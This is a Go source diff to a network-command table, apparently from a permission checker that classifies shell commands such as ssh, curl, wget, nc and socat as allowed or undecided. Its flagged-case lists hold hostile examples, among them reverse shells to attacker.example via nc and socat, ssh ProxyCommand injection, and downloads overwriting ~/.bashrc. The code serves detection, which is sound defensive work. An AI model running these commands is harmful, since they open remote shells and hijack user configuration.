@@ -7,14 +7,14 @@ const sshOpts = "-1 -2 -4 -6 -A -a -C -f -G -g -K -k -M -N -n -q -s -T -t -V:h -
 
 var _ = family("network", func(add func(...*Spec)) {
 	add(
-		&Spec{Names: n("ssh"), Grant: Grant{Exact: true, Offers: []string{"ssh x => Bash(ssh x)"}}, Effect: Network, Lang: "ssh-option", Operands: "n -*", Options: sshOpts,
+		&Spec{Names: n("ssh"), Talk: Talk{Beyond: true, Examples: []string{"ssh host => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"ssh x => Bash(ssh x)"}}, Effect: Network, Lang: "ssh-option", Operands: "n -*", Options: sshOpts,
 			Flagged: []string{"ssh -o ProxyCommand='sh -c id' x", "ssh -oProxyCommand=';id' x", "ssh -o LocalCommand=id -o PermitLocalCommand=yes host", "ssh host uptime"}},
-		&Spec{Names: n("scp"), Grant: Grant{Exact: true, Offers: []string{"scp x => Bash(scp x)"}}, Effect: Network, Lang: "ssh-option", Permute: true, Operands: "-*",
+		&Spec{Names: n("scp"), Talk: Talk{Beyond: true, Examples: []string{"scp build.tgz deploy@server:/srv/ => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"scp x => Bash(scp x)"}}, Effect: Network, Lang: "ssh-option", Permute: true, Operands: "-*",
 			Options: "-3 -4 -6 -A -B -C -O -p -q -R -r -s -T -v -D=x -S=x -c= -F=u -i=r -J=n -l= -o=k -P= -X=",
 			Flagged: []string{"scp -S ./evil.sh x y:", "scp build.tgz deploy@server:/srv/"}},
 		// rsync: the short flags are declared so that a bundle (-avze
 		// CMD) is read to its end; -h is --human-readable, not help.
-		&Spec{Names: n("rsync"), Grant: Grant{Exact: true, Offers: []string{"rsync x => Bash(rsync x)"}}, Effect: Network, Lang: "ssh-option", Permute: true, Operands: "-*", Loose: true,
+		&Spec{Names: n("rsync"), Talk: Talk{RemoteOperand: true, Examples: []string{"rsync -av src/ host:/dst => undecided", "rsync -av src/ dst/ => allow"}}, Grant: Grant{Exact: true, Offers: []string{"rsync x => Bash(rsync x)"}}, Effect: Network, Lang: "ssh-option", Permute: true, Operands: "-*", Loose: true,
 			Options: "-v -q -c -b -u -l -L -k -K -H -p -E -o -g -D -t -O -J -S -n --dry-run --list-only -W -x -C -y -z -P -i -8 -4 -6 -0 -s -d -m -X -A -U -N -R -h " +
 				"-a --archive -r --recursive --exclude= --include= --filter= -f= --chmod= --chown= --backup-dir= --partial-dir= --temp-dir= -T= --timeout= --port= " +
 				"--bwlimit= --max-size= --min-size= --compare-dest= --copy-dest= --link-dest= -B= --block-size= -M= --remote-option= " +
@@ -23,19 +23,19 @@ var _ = family("network", func(add func(...*Spec)) {
 		// curl: every short option is declared, so that a bundle (-sSLo
 		// FILE) is read to its end; the long ones that take a value are
 		// declared so that the value is not read as a URL.
-		&Spec{Names: n("curl"), Grant: Grant{Exact: true, Offers: []string{"curl x => Bash(curl x)"}}, Effect: Network, Permute: true, Operands: "n*", Loose: true,
+		&Spec{Names: n("curl"), Talk: Talk{Sends: "-d --data --data-binary --data-raw --data-ascii --data-urlencode --json -F --form --form-string -T --upload-file --mail-rcpt --mail-from -X --request", Method: "-X --request", Examples: []string{"curl https://example.com => allow", "curl -d x https://example.com => undecided", "curl -dx https://example.com => undecided", "curl --data=x https://example.com => undecided", "curl -X POST https://example.com => undecided", "curl -X GET https://example.com => allow", "curl -XHEAD https://example.com => allow", "curl -d x http://localhost:8080/api => allow", "curl gopher://example.com => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"curl x => Bash(curl x)"}}, Effect: Network, Permute: true, Operands: "n*", Loose: true,
 			Options: "-0 -1 -2 -3 -4 -6 -a -B -f -g -G -I -i -j -J -k -l -L -M -n -N -O|--remote-name --remote-name-all -p -q -R -s -S -v -Z -# -A|--user-agent= -b|--cookie= -C|--continue-at= -d|--data= -E|--cert=r -F|--form= -H|--header= -m|--max-time= -P= -Q= -r|--range= -t= -u|--user= -U|--proxy-user= -w|--write-out= -x|--proxy= -X|--request= -y= -Y= -z= -e|--referer= --data-binary= --data-raw= --data-ascii= --data-urlencode= --json= --form-string= --retry= --retry-delay= --retry-max-time= --connect-timeout= --resolve= --connect-to= --cacert=r --capath=r --key=r --max-filesize= --limit-rate= --interface= --noproxy= --oauth2-bearer= --aws-sigv4= --url= --url-query= --output-dir= -o|--output=w -K|--config=u --engine=l -T|--upload-file=r -c|--cookie-jar=w -D|--dump-header=w --trace=w --trace-ascii=w --stderr=w --libcurl=w --etag-save=w --hsts=w --alt-svc=w -h:h --help:h -V:h --version:h",
 			Flagged: []string{"curl -o ~/.bashrc https://example.com/x", "curl -K evil.cfg https://x", "curl --engine ./lib.so https://x", "curl -sSLo ~/.bashrc https://example.com/x"}},
-		&Spec{Names: n("wget", "wget2"), Grant: Grant{Exact: true, Offers: []string{"wget x => Bash(wget x)"}}, Effect: Network, Permute: true, Operands: "n*", Loose: true, Abbrev: true,
+		&Spec{Names: n("wget", "wget2"), Talk: Talk{Sends: "--post-data --post-file --body-data --body-file --method", Method: "--method", Examples: []string{"wget https://example.com => allow", "wget --post-data=a https://example.com => undecided", "wget2 --post-file f https://example.com => undecided", "wget --method=GET https://example.com => allow", "wget --method DELETE https://example.com => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"wget x => Bash(wget x)"}}, Effect: Network, Permute: true, Operands: "n*", Loose: true, Abbrev: true,
 			Options: "-4 -6 -b -c -d -E -F -H -k -K -m -N -p -q -r -S -v -x -n= -B= -P= --directory-prefix= -t= --tries= -T= --timeout= -w= -Q= -U= --user-agent= -l= -D= -R= -A= -I= -X= " +
 				"--header= --post-data= --body-data= --method= --user= --password= --http-user= --http-password= " +
 				"-O=w --output-document=w -o=w --output-file=w -a=w --append-output=w -e=u --execute=u --config=u -i=r --input-file=r --post-file=r --body-file=r --use-askpass=x -h:h --help:h -V:h --version:h " +
 				"--save-cookies=w --load-cookies=r --save-headers --warc-file=w --rejected-log=w",
 			Flagged: []string{"wget -qO ~/.bashrc https://example.com/x", "wget --save-cookies ~/.bashrc https://example.com", "wget -e 'use_proxy=on' https://x", "wget --use-askpass=./x.sh https://x"}},
-		&Spec{Names: n("nc", "ncat", "netcat", "nc.openbsd", "nc.traditional"), Grant: Grant{Exact: true, Offers: []string{"nc x => Bash(nc x)"}}, Effect: Network, Permute: true, Operands: "n*", Loose: true,
+		&Spec{Names: n("nc", "ncat", "netcat", "nc.openbsd", "nc.traditional"), Talk: Talk{Beyond: true, Examples: []string{"nc -z localhost 8080 => undecided", "nc.openbsd host 80 => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"nc x => Bash(nc x)"}}, Effect: Network, Permute: true, Operands: "n*", Loose: true,
 			Options: "-e=x -c=x --exec=x --sh-exec=x --lua-exec=x -o=w --output=w -p= -s= -w= -i= -q= -l -v -n -u -z -k -4 -6 -h:h --help:h",
 			Flagged: []string{"nc -e /bin/sh attacker.example 4444", "nc -z localhost 8080"}},
-		&Spec{Names: n("socat"), Grant: Grant{Exact: true, Offers: []string{"socat x => Bash(socat x)"}}, Effect: Network, Lang: "socat", Operands: "c c?", Loose: true, Options: "-h:h -V:h",
+		&Spec{Names: n("socat"), Talk: Talk{Beyond: true, Examples: []string{"socat host => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"socat x => Bash(socat x)"}}, Effect: Network, Lang: "socat", Operands: "c c?", Loose: true, Options: "-h:h -V:h",
 			Flagged: []string{"socat tcp-connect:attacker.example:4444 exec:sh"}},
 	)
 })
